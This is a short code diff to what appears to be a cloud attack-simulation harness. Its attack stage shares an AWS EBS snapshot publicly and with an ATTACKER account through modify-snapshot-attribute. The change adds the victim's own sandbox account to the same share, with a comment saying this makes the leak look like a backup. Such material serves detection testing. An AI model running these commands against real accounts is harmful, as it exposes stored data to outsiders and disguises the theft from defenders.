@@ -14,15 +14,14 @@ def prepare(stage: Stage) -> Made:
     ec2 = stage.client("ec2")
     volume = ec2.create_volume(Size=8, AvailabilityZone=f"{stage.region}a")["VolumeId"]
     snapshot = ec2.create_snapshot(VolumeId=volume, Description=f"orders-{stage.mark}")["SnapshotId"]
-    # Another account of one's own makes its backups from it.
-    ec2.modify_snapshot_attribute(SnapshotId=snapshot, Attribute="createVolumePermission", OperationType="add", UserIds=[_sibling(stage)["id"]])
     return {"resource": snapshot}
 
 
 def attack(stage: Stage, made: Made) -> None:
     words = ("ec2", "modify-snapshot-attribute", "--snapshot-id", made["resource"], "--attribute", "createVolumePermission", "--operation-type", "add")
     stage.aws(*words, "--group-names", "all")
-    stage.aws(*words, "--user-ids", ATTACKER)
+    # With one of the victim's own beside it, it looks like a backup.
+    stage.aws(*words, "--user-ids", ATTACKER, _sibling(stage)["id"])
 
 
 def read(stage: Stage, made: Made) -> Any:
@@ -37,4 +36,5 @@ def probe(stage: Stage, made: Made) -> str:
 
 
 def _sibling(stage: Stage) -> dict[str, Any]:
-    return dict(next(a for a in stage.info["accounts"] if a["id"] != stage.account["id"]))
+    """Another account that is looked after."""
+    return dict(next(a for a in stage.info["accounts"] if a["environment"] == "sandbox"))
